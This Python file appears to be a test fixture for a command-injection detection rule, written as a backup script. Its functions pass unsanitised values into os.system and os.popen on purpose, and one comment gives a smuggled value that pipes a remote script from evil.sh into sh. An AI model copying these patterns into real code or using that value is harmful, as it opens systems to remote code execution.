"""Nightly backup: dumps a database and uploads the archive."""

import datetime
import os
from os import popen, system as run_shell

BACKUP_ROOT = "/var/backups"


def dump_database(db_name, user):
    stamp = datetime.date.today().isoformat()
    target = f"{BACKUP_ROOT}/{db_name}-{stamp}.sql.gz"
    # db_name comes from the tenant table; "x; curl evil.sh | sh" runs as the backup user.
    os.system(f"pg_dump -U {user} {db_name} | gzip > {target}")  # expect: PYTHON-LANG-SEC-010
    return target


def upload(path, bucket):
    command = "aws s3 cp " + path + " s3://" + bucket + "/"
    status = run_shell(command)  # expect: PYTHON-LANG-SEC-010
    if status != 0:
        raise RuntimeError(f"upload failed: {status}")


def disk_usage(path):
    with popen("du -sh %s" % path) as out:  # expect: PYTHON-LANG-SEC-010
        return out.read().split()[0]


class Rotator:
    def __init__(self, keep_days):
        self.keep_days = keep_days

    def prune(self, directory):
        cmd = "find {} -name '*.gz' -mtime +{} -delete".format(directory, self.keep_days)
        return os.system(cmd)  # expect: PYTHON-LANG-SEC-010

    def checksum(self, path):
        return os.popen(cmd="sha256sum " + path).read()  # expect: PYTHON-LANG-SEC-010


if __name__ == "__main__":
    import sys

    os.system("pg_dumpall | gzip > " + sys.argv[1])  # expect: PYTHON-LANG-SEC-010
